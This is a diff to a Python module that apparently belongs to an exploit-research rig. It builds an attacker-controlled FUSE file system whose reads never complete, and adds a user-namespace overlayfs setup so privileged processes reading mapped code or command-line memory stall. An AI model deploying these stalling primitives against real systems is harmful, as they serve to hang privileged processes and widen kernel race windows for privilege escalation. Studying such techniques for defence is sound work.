@@ -1,7 +1,7 @@
 """Memory that never comes: a file system of the attacker's own that does not answer reads.
 
 fuse.py NAME. The rig mounts it, as the setuid program fusermount does for ordinary users: in a
-user namespace of the attacker's own, reads by root would fail at once.
+user namespace of the attacker's own, reads by root would fail at once, unless an overlay does them.
 """
 
 import ctypes
@@ -35,12 +35,14 @@ def serve(fd):
             answer = struct.pack("<QII", 3600, 0, 0) + attributes
         elif op in (14, 27):  # OPEN, OPENDIR
             answer = struct.pack("<QII", 1, 0, 0)
+        elif op == 17:  # STATFS
+            answer = bytes(80)
         elif op == 15:  # READ
             print("process", struct.unpack_from("<I", request, 32)[0], "waits", file=sys.stderr, flush=True)
             continue
         elif op in (2, 36):  # FORGET, INTERRUPT
             continue
-        os.write(fd, struct.pack("<IiQ", 16 + len(answer), 0 if op in (26, 1, 3, 14, 27, 18, 25, 29) else -38, unique) + answer)
+        os.write(fd, struct.pack("<IiQ", 16 + len(answer), 0 if op in (26, 1, 3, 14, 17, 27, 18, 25, 29) else -38, unique) + answer)
 
 
 def mounted():
@@ -50,12 +52,20 @@ def mounted():
     fd = os.open("/dev/fuse", os.O_RDWR)
     print("mount", fd, point, flush=True)  # which fusermount would do for every user
     sys.stdin.readline()
-    pid = os.fork()  # threads of this process would have to answer its own faults
-    if pid == 0:
+    start_server(fd)
+    return os.open(point + "/file", os.O_RDWR)
+
+
+def start_server(fd):
+    if os.fork() == 0:  # threads of this process would have to answer its own faults
         serve(fd)
         os._exit(0)
     os.close(fd)  # so that the file system ends with the child
-    return os.open(point + "/file", os.O_RDWR)
+
+
+def mount(kind, point, options=""):
+    if libc.mount(kind.encode(), point.encode(), kind.encode(), 0, options.encode()) != 0:
+        raise OSError(ctypes.get_errno(), "mounting " + kind + ": " + os.strerror(ctypes.get_errno()))
 
 
 def silent_memory(size=SIZE, at=None):
@@ -104,6 +114,33 @@ def command_line(*words):
     start, end = int(text[45]), int(text[46])  # arg_start, arg_end
     first, last = (start + PAGE - 1) & -PAGE, end & -PAGE
     memory(last - first, PROT_READ | PROT_WRITE, MAP_PRIVATE, fd, first)
+    map_code(path)
+    forever()
+
+
+def code():
+    """Code that never comes."""
+    memory(SIZE, PROT_READ | PROT_EXEC, MAP_PRIVATE, mounted())
+    map_code(library())
+    forever()
+
+
+def overlay():
+    """Code that never comes, below an overlay, which reads with the rights of the user who mounted it."""
+    path, user = library(), os.getuid()
+    if libc.unshare(0x10000000 | 0x20000) != 0:  # CLONE_NEWUSER, CLONE_NEWNS
+        raise OSError(ctypes.get_errno(), "unshare: " + os.strerror(ctypes.get_errno()))
+    for name, text in (("setgroups", "deny"), ("uid_map", f"0 {user} 1"), ("gid_map", f"0 {user} 1")):
+        with open("/proc/self/" + name, "w") as file:
+            file.write(text)
+    mount("tmpfs", "/mnt")
+    for name in "lower", "upper", "work", "merged":
+        os.mkdir("/mnt/" + name)
+    fd = os.open("/dev/fuse", os.O_RDWR)
+    mount("fuse", "/mnt/lower", f"fd={fd},rootmode=40000,user_id=0,group_id=0")
+    start_server(fd)
+    mount("overlay", "/mnt/merged", "lowerdir=/mnt/lower,upperdir=/mnt/upper,workdir=/mnt/work,userxattr")
+    memory(SIZE, PROT_READ | PROT_EXEC, MAP_PRIVATE, os.open("/mnt/merged/file", os.O_RDONLY))
     map_code(path)
     forever()
 
